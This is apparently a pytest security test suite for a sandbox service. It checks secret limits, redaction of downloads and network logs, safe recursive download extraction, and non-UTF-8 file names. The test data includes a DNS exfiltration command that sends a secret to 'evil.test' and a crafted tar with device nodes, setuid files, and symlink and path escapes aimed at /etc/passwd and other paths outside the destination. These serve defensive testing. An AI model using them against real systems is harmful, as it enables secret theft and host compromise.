"""Issue 10: what a tenant gets back out of its sandbox, and what that costs the others.

- Finding 12: a sandbox's secrets are capped (`max_secrets`, `max_secret_bytes`) with a
  clear 400, and its redactor is built once, not per exec: execs of a sandbox with the
  most secrets allowed stay fast, and a second tenant's execs do not slow down meanwhile.
- Finding 14: `brig download -r`, run as root, creates only regular files, directories and
  symlinks that stay inside the destination, whatever archive the sandbox sends.
- Finding 18: file downloads, tar downloads and the network log pass through the sandbox's
  redactor (docs/secrets.md says how: same-length masks in downloads).
- Finding 20: names that are not UTF-8 are listed (with a lossless `name_b64`) and can be
  read, stat'ed, written and removed by their raw bytes.

Every test runs its attack from the `sec` fixture's sandboxes; the fixture then checks the
bystander sandbox of another account, and the tests that are about load measure that
bystander's `exec true` latency during the attack against an idle baseline.
"""

import base64
import io
import os
import random
import secrets
import stat
import statistics
import string
import subprocess
import tarfile
import threading
import time
import urllib.parse

import pytest

import brigtest

# Both modes, but the tests of brigd's secret caps and redactor (brigd alone sees those
# bytes, the same from either mode's agent): each says why.  Downloads and the network log
# come from the sandbox's disk and network; `brig download -r` writes what a sandbox
# sends onto the host; non-UTF-8 names are the sandbox's file system's (gVisor's own).


MAX_SECRETS = 100  # max_secrets' default (docs/operations.md)
MAX_SECRET_BYTES = 65536  # max_secret_bytes' default
BRIG = os.path.join(brigtest.BUILD, "brig")


# ---- helpers ----------------------------------------------------------------------------


def exec_latency(api, sid, n=8):
    """The median wall time of n `exec true` in sid."""
    times = []
    for _ in range(n):
        t0 = time.monotonic()
        r = api.exec(sid, argv=["true"], timeout=30)
        times.append(time.monotonic() - t0)
        assert r["exit_code"] == 0, r
    return statistics.median(times)


def brigd_cpu(daemon):
    """CPU seconds brigd used so far (user + system)."""
    with open(f"/proc/{daemon.proc.pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class Load:
    """Runs fn in `threads` loops, each at most `rate` calls a second (back to back when a
    call takes longer: an attacker's steady request rate, not a synchronisation), until
    stopped; counts the calls and keeps the first error."""

    def __init__(self, fn, threads=2, rate=4):
        self.fn = fn
        self.period = 1.0 / rate
        self.stop_ev = threading.Event()
        self.calls = 0
        self.error = None
        self.threads = [threading.Thread(target=self._run, daemon=True) for _ in range(threads)]

    def _run(self):
        due = time.monotonic()
        while not self.stop_ev.is_set():
            try:
                self.fn()
                self.calls += 1
            except Exception as e:  # noqa: BLE001 - reported by __exit__'s caller
                self.error = self.error or e
                return
            due += self.period
            self.stop_ev.wait(max(0.0, due - time.monotonic()))

    def __enter__(self):
        for t in self.threads:
            t.start()
        return self

    def __exit__(self, *exc):
        self.stop_ev.set()
        for t in self.threads:
            t.join(timeout=300)


def files_url(sid, path, **q):
    """/v1/sandboxes/SID/files?path=... with path as raw bytes (percent-encoded)."""
    if isinstance(path, str):
        path = path.encode()
    query = "path=" + urllib.parse.quote(path, safe="/")
    for k, v in q.items():
        query += f"&{k}={v}"
    return f"/v1/sandboxes/{sid}/files?{query}"


def b64(s):
    return base64.b64encode(s if isinstance(s, bytes) else s.encode()).decode()


def forms(value):
    """The forms of a secret the redactor catches: the value, its base64 (standard and
    URL-safe, without padding) at every alignment."""
    v = value.encode()
    out = {v}
    for k in range(3):
        for enc in (base64.b64encode, base64.urlsafe_b64encode):
            e = enc(b"\0" * k + v)
            out.add(e[(8 * k + 5) // 6:(8 * (k + len(v))) // 6])
    return out


# ---- 12: secrets are capped, and the redactor is built once ------------------------------


@pytest.mark.isolation("container")  # brigd refuses the creates before any sandbox exists
def test_secrets_beyond_the_caps_are_refused_clearly_and_fast(sec):
    """40,000 secrets (what took an exec 95 s) are a 400 naming max_secrets, at once; so is
    one more than the cap, and values (inline or referenced) beyond max_secret_bytes.  The
    bystander's execs meanwhile keep their idle latency."""
    a = sec.api
    baseline = exec_latency(sec.victim.api, sec.victim.id)
    many = {f"S{i:05d}": f"v{i:07d}" for i in range(40000)}  # fits the 1 MiB body limit
    result = {}

    def create_many():
        t0 = time.monotonic()
        r = a.request("POST", "/v1/sandboxes", {"template": "minimal", "secrets": many},
                      timeout=300)
        result["status"], result["body"] = r.status, r.body
        result["secs"] = time.monotonic() - t0
        if r.status == 201:  # before the cap: clean up what was made
            sec.created.append(r.json()["id"])

    t = threading.Thread(target=create_many)
    t.start()
    during = []
    while t.is_alive() and len(during) < 20:
        during.append(exec_latency(sec.victim.api, sec.victim.id, n=1))
    t.join(timeout=300)
    assert result["status"] == 400, (result["status"], result["body"][:300])
    assert b"max_secrets" in result["body"] and b"100" in result["body"], result["body"]
    assert result["secs"] < 10, f"refusing 40,000 secrets took {result['secs']:.1f} s"
    if during:
        assert max(during) < 5 * baseline + 1.0, (baseline, during)

    r = a.request("POST", "/v1/sandboxes", {
        "template": "minimal",
        "secrets": {f"S{i}": f"value-{i:04d}" for i in range(MAX_SECRETS + 1)}})
    assert r.status == 400 and b"max_secrets" in r.body, r.body
    big = {"A": "a" * 40000, "B": "b" * 40000}
    r = a.request("POST", "/v1/sandboxes", {"template": "minimal", "secrets": big})
    assert r.status == 400 and b"max_secret_bytes" in r.body and b"65536" in r.body, r.body
    # By reference: the project's values count the same.
    p = a.ok("POST", "/v1/projects", {"name": "big-secrets"}).json()
    for name, value in big.items():
        a.ok("PUT", f"/v1/projects/{p['id']}/secrets/{name}", {"value": value}, expect=(204,))
    r = a.request("POST", "/v1/sandboxes", {"template": "minimal", "project": p["id"],
                                            "secret_refs": ["A", "B"]})
    assert r.status == 400 and b"max_secret_bytes" in r.body, r.body
    # Nothing of the refused creates lives on.
    live = [s["id"] for s in a.ok("GET", "/v1/sandboxes").json()["sandboxes"]]
    assert live == [], live


@pytest.mark.isolation("container")  # brigd's redactor and CPU: the same output in any mode
def test_execs_with_the_most_secrets_stay_fast_and_leave_others_alone(sec):
    """A sandbox with max_secrets secrets of max_secret_bytes in all (values with characters
    that URL-encoding expands: the most patterns per byte): its execs cost about what a plain
    sandbox's do (the redactor is built once, not per exec), its output is still redacted,
    and a steady stream of its execs leaves the bystander's exec latency near its idle
    baseline."""
    a = sec.api
    per = MAX_SECRET_BYTES // MAX_SECRETS
    rnd = random.Random(12)
    alphabet = string.ascii_letters + string.digits + "!#$%&()*+,-./:;<=>?@[]^_{|}~"
    vals = {f"S{i:03d}": f"{i:03d}" + "".join(rnd.choice(alphabet) for _ in range(per - 3))
            for i in range(MAX_SECRETS)}
    assert sum(len(v) for v in vals.values()) <= MAX_SECRET_BYTES
    r = a.request("POST", "/v1/sandboxes", {"template": "minimal", "secrets": vals}, timeout=120)
    assert r.status == 201, r.body[:300]
    heavy = r.json()["id"]
    sec.created.append(heavy)
    plain = sec.sandbox("minimal")

    out = a.exec(heavy, 'echo "$S042"; echo "$S099" | base64', timeout=30)
    assert out["exit_code"] == 0, out
    assert vals["S042"] not in out["stdout"] and "[REDACTED:S042]" in out["stdout"], out
    assert "[REDACTED:S099]" in out["stdout"], out

    cpu0 = brigd_cpu(sec.daemon)
    plain_lat = exec_latency(a, plain, n=10)
    cpu1 = brigd_cpu(sec.daemon)
    heavy_lat = exec_latency(a, heavy, n=10)
    cpu2 = brigd_cpu(sec.daemon)
    # brigd's CPU is what every tenant shares: ten execs with the most secrets cost it about
    # what ten plain ones do (building the redactor per exec cost ~0.4 s each under ASan).
    assert cpu2 - cpu1 < 2 * (cpu1 - cpu0) + 0.5, (cpu1 - cpu0, cpu2 - cpu1)
    assert heavy_lat < 2 * plain_lat + 0.08, (plain_lat, heavy_lat)

    baseline = exec_latency(sec.victim.api, sec.victim.id, n=10)
    with Load(lambda: a.exec(heavy, "echo hi", timeout=120), threads=6, rate=2) as load:
        during = exec_latency(sec.victim.api, sec.victim.id, n=10)
    assert load.error is None, load.error
    assert load.calls > 0
    # Generous: on two shared cores any twelve execs a second slow a bystander somewhat.
    assert during < 3 * baseline + 0.1, (baseline, during, load.calls)


# ---- 18: downloads and the network log are redacted ------------------------------------------


def test_downloads_and_the_network_log_do_not_reveal_secrets(sec):
    """A sandbox key reads back files that hold a secret (plain, base64, inside binary
    data), a tar of them and the network log after a DNS query carrying the value: none
    holds the value or a base64 form of it; files keep their size (same-length masks) and
    say so in a header, the tar still unpacks with the right sizes."""
    sec.needs_network()
    token = "tok-" + secrets.token_hex(20)
    # A sandbox key of a project of its own is enough (it is what an agent holds).
    p = sec.api.ok("POST", "/v1/projects", {"name": "leaky"}).json()
    k = sec.api.ok("POST", f"/v1/projects/{p['id']}/keys", {"scope": "sandbox"}).json()
    a = brigtest.Api(sec.api.base_url, k["key"])
    r = a.request("POST", "/v1/sandboxes", {"template": "base", "secrets": {"TOKEN": token}})
    assert r.status == 201, r.body
    sid = r.json()["id"]
    sec.created.append(sid)
    # DNS: the query leaves (refused or failing upstream), the log keeps its name.
    a.exec(sid, "getent hosts \"$TOKEN.evil.test\"; getent hosts "
                "\"$(printenv TOKEN | base64 | tr -d '=\\n').evil.test\"", timeout=30)
    log = brigtest.wait_for(
        lambda: [e for e in a.ok("GET", f"/v1/sandboxes/{sid}/network-log").json()["entries"]
                 if e.get("kind") == "dns" and e.get("name", "").endswith(".evil.test")],
        timeout=10, what="the DNS queries in the network log")
    raw = a.ok("GET", f"/v1/sandboxes/{sid}/network-log").body
    for f in forms(token):
        assert f not in raw, f
    assert any("[REDACTED:TOKEN]" in e["name"] for e in log), log

    r = a.exec(sid, "mkdir -p /root/out && cd /root/out && "
                    "printenv TOKEN > plain && printf 'x%sy\\n' \"$TOKEN\" >> plain && "
                    "printenv TOKEN | base64 > b64 && "
                    "head -c 3000 /dev/urandom > bin && printenv TOKEN >> bin && "
                    "head -c 3000 /dev/urandom >> bin", timeout=30)
    assert r["exit_code"] == 0, r
    sizes = {}
    for name in ("plain", "b64", "bin"):
        st = a.ok("GET", files_url(sid, f"/root/out/{name}", stat=1)).json()
        sizes[name] = st["size"]
        resp = a.ok("GET", files_url(sid, f"/root/out/{name}"))
        for f in forms(token):
            assert f not in resp.body, (name, f)
        assert len(resp.body) == st["size"], (name, len(resp.body), st["size"])
        assert resp.headers.get("x-brig-redaction") == "mask", resp.headers
    body = a.ok("GET", files_url(sid, "/root/out/plain")).body
    assert body.startswith(b"[REDACTED:TOKEN]*"), body

    resp = a.ok("GET", f"/v1/sandboxes/{sid}/files/tar?path=/root/out")
    for f in forms(token):
        assert f not in resp.body, f
    with tarfile.open(fileobj=io.BytesIO(resp.body)) as tf:
        got = {m.name.lstrip("./"): m.size for m in tf.getmembers() if m.isfile()}
        assert got == sizes, (got, sizes)
        assert tf.extractfile("./plain").read().startswith(b"[REDACTED:TOKEN]")


# ---- 14: brig download -r extracts only what is safe ---------------------------------------


def evil_archive(outside):
    """A tar a hostile sandbox may send: device nodes (the host's own disk among them), a
    FIFO, setuid/setgid files, symlinks and hard links out, `..` and absolute names, and a
    write through an escaping symlink; plus what must still arrive."""
    buf = io.BytesIO()
    root_dev = os.stat("/").st_dev
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        def add(name, type_=tarfile.REGTYPE, data=b"", mode=0o644, **kw):
            ti = tarfile.TarInfo(name)
            ti.type, ti.mode, ti.size = type_, mode, len(data)
            for k, v in kw.items():
                setattr(ti, k, v)
            tf.addfile(ti, io.BytesIO(data) if data else None)

        add("./", tarfile.DIRTYPE, mode=0o755)
        add("./ok.txt", data=b"fine\n")
        add("./sub", tarfile.DIRTYPE, mode=0o755)
        add("./sub/up-ok", tarfile.SYMTYPE, linkname="../ok.txt")
        add("./in-link", tarfile.SYMTYPE, linkname="ok.txt")
        add("./hard-in", tarfile.LNKTYPE, linkname="./ok.txt")
        add("./disk", tarfile.BLKTYPE, mode=0o666, devmajor=os.major(root_dev),
            devminor=os.minor(root_dev))
        add("./mem", tarfile.CHRTYPE, mode=0o666, devmajor=1, devminor=1)
        add("./fifo", tarfile.FIFOTYPE, mode=0o666)
        add("./suid", data=b"#!/bin/sh\nid\n", mode=0o4755)
        add("./sgid", data=b"#!/bin/sh\nid\n", mode=0o2755)
        add("./abs-link", tarfile.SYMTYPE, linkname="/etc/passwd")
        add("./up-link", tarfile.SYMTYPE, linkname="../../../../../../" + outside.lstrip("/"))
        add("./up-link/pwned", data=b"through a symlink\n")
        add("./hard-out", tarfile.LNKTYPE, linkname="/etc/passwd")
        add("../escape.txt", data=b"escaped\n")
        add(outside + "/abs.txt", data=b"absolute\n")
    return buf.getvalue()


def test_download_r_as_root_creates_no_device_nodes_or_escapes(sec, tmp_path):
    """The sandbox replaces its `tar` with one that sends evil_archive(); `brig download -r`
    (run as root here) extracts the regular file, directories and inside symlinks, and
    nothing else: no device node, FIFO, setuid bit, hard link or symlink out, nothing
    outside the destination; it warns about each skipped member."""
    assert os.geteuid() == 0, "this test is about the CLI running as root"
    a = sec.api
    sid = sec.sandbox("minimal")
    outside = str(tmp_path / "outside")
    os.makedirs(outside)
    a.put_file(sid, "/root/evil.tar", evil_archive(outside))
    # The agent runs the sandbox's own tar; /usr/local/sbin comes first in its PATH.
    a.put_file(sid, "/usr/local/sbin/tar", b"#!/bin/sh\nexec cat /root/evil.tar\n", mode="0755")
    dest = tmp_path / "dest"
    before_outside = sorted(os.listdir(outside))
    r = subprocess.run([BRIG, "download", "-r", sid, "/root", str(dest)],
                       env=dict(os.environ, BRIG_URL=a.base_url, BRIG_API_KEY=a.key),
                       capture_output=True, timeout=120)
    err = r.stderr.decode(errors="replace")
    found = {}
    for d, dirs, files in os.walk(dest):
        for n in dirs + files:
            p = os.path.join(d, n)
            found[os.path.relpath(p, dest)] = os.lstat(p)
    specials = {n: stat.filemode(st.st_mode) for n, st in found.items()
                if stat.S_ISBLK(st.st_mode) or stat.S_ISCHR(st.st_mode)
                or stat.S_ISFIFO(st.st_mode) or stat.S_ISSOCK(st.st_mode)}
    assert specials == {}, f"special files created: {specials}\n{err}"
    setid = [n for n, st in found.items() if st.st_mode & (stat.S_ISUID | stat.S_ISGID)]
    assert setid == [], setid
    real_dest = os.path.realpath(dest)
    for n, st in found.items():
        p = os.path.join(dest, n)
        if stat.S_ISLNK(st.st_mode):
            target = os.path.realpath(p)
            assert target == real_dest or target.startswith(real_dest + os.sep), \
                f"{n} -> {os.readlink(p)} leaves the destination"
        if stat.S_ISREG(st.st_mode) and st.st_nlink > 1:
            passwd = os.stat("/etc/passwd")
            assert (st.st_dev, st.st_ino) != (passwd.st_dev, passwd.st_ino), n
    assert sorted(os.listdir(outside)) == before_outside, "something was written outside"
    assert not os.path.exists(tmp_path / "escape.txt")
    assert r.returncode == 0, err
    assert (dest / "ok.txt").read_bytes() == b"fine\n"
    assert os.readlink(dest / "in-link") == "ok.txt"
    assert os.readlink(dest / "sub" / "up-ok") == "../ok.txt"
    for skipped in ("disk", "mem", "fifo", "abs-link", "up-link", "hard-out", "escape.txt"):
        assert skipped in err, (skipped, err)
    # The sandbox's own archive still round-trips through the CLI (the normal case).
    a.exec(sid, "rm /usr/local/sbin/tar", timeout=10)


# ---- 20: names that are not UTF-8 ---------------------------------------------------------


def test_non_utf8_names_are_listed_read_and_removed(sec):
    """A file, a symlink target and a directory whose names are not UTF-8: the listing holds
    them (name with U+FFFD for display, name_b64 the raw bytes), and stat, download, upload
    and delete address them by their raw bytes (percent-encoded); errors stay JSON."""
    a = sec.api
    sid = sec.sandbox("minimal")
    r = a.exec(sid, "mkdir /root/d && printf data > \"$(printf '/root/d/bad-\\377\\376')\" && "
                    "echo ok > /root/d/good && ln -s \"$(printf 'tgt-\\377')\" /root/d/lnk && "
                    "mkdir \"$(printf '/root/d/dir-\\300')\"", timeout=10)
    assert r["exit_code"] == 0, r
    bad = b"/root/d/bad-\xff\xfe"
    resp = a.request("GET", files_url(sid, "/root/d", list=1))
    assert resp.status == 200, resp.body
    entries = {e["name"]: e for e in resp.json()["entries"]}
    assert set(entries) == {"bad-\ufffd\ufffd", "good", "lnk", "dir-\ufffd"}, entries
    assert base64.b64decode(entries["bad-\ufffd\ufffd"]["name_b64"]) == b"bad-\xff\xfe"
    assert base64.b64decode(entries["dir-\ufffd"]["name_b64"]) == b"dir-\xc0"
    assert entries["dir-\ufffd"]["type"] == "dir"
    assert "name_b64" not in entries["good"]
    assert base64.b64decode(entries["lnk"]["target_b64"]) == b"tgt-\xff"

    st = a.request("GET", files_url(sid, bad, stat=1))
    assert st.status == 200, st.body
    assert base64.b64decode(st.json()["name_b64"]) == b"bad-\xff\xfe" and st.json()["size"] == 4
    got = a.request("GET", files_url(sid, bad))
    assert (got.status, got.body) == (200, b"data"), got.body
    r = a.request("PUT", files_url(sid, b"/root/d/new-\xff"), b"new")
    assert r.status == 204, r.body
    assert a.request("GET", files_url(sid, b"/root/d/new-\xff")).body == b"new"

    tar = a.ok("GET", f"/v1/sandboxes/{sid}/files/tar?path=/root/d").body
    with tarfile.open(fileobj=io.BytesIO(tar), encoding="utf-8", errors="surrogateescape") as tf:
        names = {os.fsencode(m.name) for m in tf.getmembers()}
    assert b"./bad-\xff\xfe" in names, names

    for p in (bad, b"/root/d/new-\xff", b"/root/d/dir-\xc0"):
        r = a.request("DELETE", files_url(sid, p))
        assert r.status == 204, (p, r.status, r.body)
    names = {e["name"] for e in a.ok("GET", files_url(sid, "/root/d", list=1)).json()["entries"]}
    assert names == {"good", "lnk"}, names
    # A missing non-UTF-8 path: a 404 whose message is valid JSON (the bytes shown escaped).
    for method in ("GET", "DELETE"):
        r = a.request(method, files_url(sid, bad))
        assert r.status == 404, (method, r.status, r.body)
        assert "not found" in r.json()["error"]["message"].lower() or r.json()["error"]["code"]
